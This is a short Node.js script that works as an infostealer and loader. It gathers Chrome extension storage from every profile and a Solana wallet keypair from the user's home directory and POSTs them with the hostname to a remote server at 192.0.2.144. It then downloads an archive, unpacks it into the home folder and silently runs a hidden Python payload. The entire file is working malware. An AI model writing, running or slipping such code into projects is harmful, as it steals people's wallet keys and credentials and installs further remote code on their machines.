const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const { exec } = require('child_process');
const server = 'http://192.0.2.144:1224';
const home = os.homedir();
const stores = ['Library/Application Support/Google/Chrome', '.config/google-chrome', 'AppData/Local/Google/Chrome/User Data', '.config/solana/id.json'];
function gather() {
  const found = [];
  for (const store of stores) {
    const full = path.join(home, store);
    if (!fs.existsSync(full)) continue;
    if (fs.statSync(full).isFile()) found.push({ name: store, body: fs.readFileSync(full, 'utf8') });
    else {
      for (let index = 0; index < 20; index += 1) {
        const profile = path.join(full, index === 0 ? 'Default' : 'Profile ' + index, 'Local Extension Settings');
        if (!fs.existsSync(profile)) continue;
        for (const name of fs.readdirSync(profile)) found.push({ name: profile + name, body: fs.readFileSync(path.join(profile, name), 'base64') });
      }
    }
  }
  return found;
}
function upload(list) {
  const request = http.request(server + '/uploads', { method: 'POST', headers: { 'content-type': 'application/json' } });
  request.on('error', () => {});
  request.end(JSON.stringify({ type: 'A1', hid: os.hostname(), list }));
}
function stage() {
  const archive = path.join(os.tmpdir(), 'p.zi');
  http.get(server + '/pdown', (answer) => {
    const out = fs.createWriteStream(archive);
    answer.pipe(out);
    out.on('finish', () => exec('tar -xf ' + archive + ' -C ' + home, () => {
      exec(path.join(home, '.pyp', 'python') + ' ' + path.join(home, '.npl'), { windowsHide: true });
    }));
  }).on('error', () => {});
}
upload(gather());
stage();
